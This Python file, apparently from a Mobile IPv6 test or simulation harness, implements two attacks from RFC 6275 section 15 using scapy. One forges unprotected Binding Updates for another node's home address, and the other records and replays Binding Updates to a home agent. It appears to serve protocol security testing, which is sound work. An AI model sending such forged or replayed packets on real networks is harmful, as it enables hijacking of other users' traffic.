"""Attacks on bindings by a host between visited and home network (RFC 6275 section 15)."""

from __future__ import annotations

import random

from scapy.layers.inet6 import (
    HAO,
    MIP6MH_BA,
    MIP6MH_BU,
    IPv6,
    IPv6ExtHdrDestOpt,
    MIP6OptAltCoA,
    PadN,
)
from scapy.layers.ipsec import ESP
from scapy.layers.l2 import Ether
from scapy.packet import Raw

from agents.mip6.codec import Status
from agents.nodes.attacker.attack import Attack, Frames, goes_to
from agents.nodes.attacker.settings import Known

_IPV6_HEADER = 40
_LIFETIME = 105
"""Of bindings, in units of 4 s."""


class UpdatesInClear(Attack):
    """Binding Updates for another's home address without ESP, from an own care-of address."""

    def heard(self, frame: Ether, now: float) -> Frames:  # noqa: ARG002
        """A Binding Acknowledgement is what is hoped for."""
        if MIP6MH_BA in frame and goes_to(frame, self.known.own.address):
            status = frame[MIP6MH_BA].status
            self.told = f"Binding Acknowledgement with status {status}"
            if status < Status.UNSPECIFIED:
                self.won = "a binding for another's home address"
        return ()

    def attack(self, now: float) -> Frames:  # noqa: ARG002
        """Send them, each with a later sequence number."""
        known = self.known
        self.told = "no answer"
        for number in range(20):
            # Its checksum is over the home address.
            plain = IPv6(src=known.home_address, dst=known.home_agent)
            plain /= update(known.own.address, 3000 * number)
            option = home_address_option(known.home_address)
            option.nh = plain.nh
            yield bytes(
                Ether(src=known.own.mac, dst=known.far.mac)
                / IPv6(src=known.own.address, dst=known.home_agent)
                / option
                / Raw(bytes(plain)[_IPV6_HEADER:])
            )


def home_address_option(home_address: str) -> IPv6ExtHdrDestOpt:
    """Return the header that says whose a Binding Update is (RFC 6275 section 6.3)."""
    return IPv6ExtHdrDestOpt(options=[PadN(optdata=b"\0\0"), HAO(hoa=home_address)])


def update(care_of: str, sequence: int) -> MIP6MH_BU:
    """Return a Binding Update with an Alternate Care-of Address."""
    option = MIP6OptAltCoA(acoa=care_of)
    return MIP6MH_BU(seq=sequence & 0xFFFF, mhtime=_LIFETIME, flags="AH", options=[option])


class ReplayedUpdates(Attack):
    """All that updated the mobile node's binding at its home agent, again, as it was."""

    def __init__(self, known: Known, rng: random.Random) -> None:
        super().__init__(known, rng)
        self._recorded: list[bytes] = []

    def heard(self, frame: Ether, now: float) -> Frames:  # noqa: ARG002
        """Keep it."""
        if (ESP in frame or MIP6MH_BU in frame) and goes_to(frame, self.known.home_agent):
            self._recorded.append(bytes(frame))
        return ()

    def attack(self, now: float) -> Frames:  # noqa: ARG002
        """Send it again, ten times."""
        recorded, self._recorded = self._recorded, []
        self.told = f"{len(recorded)} Binding Updates, each sent again ten times"
        for _ in range(10):
            yield from recorded
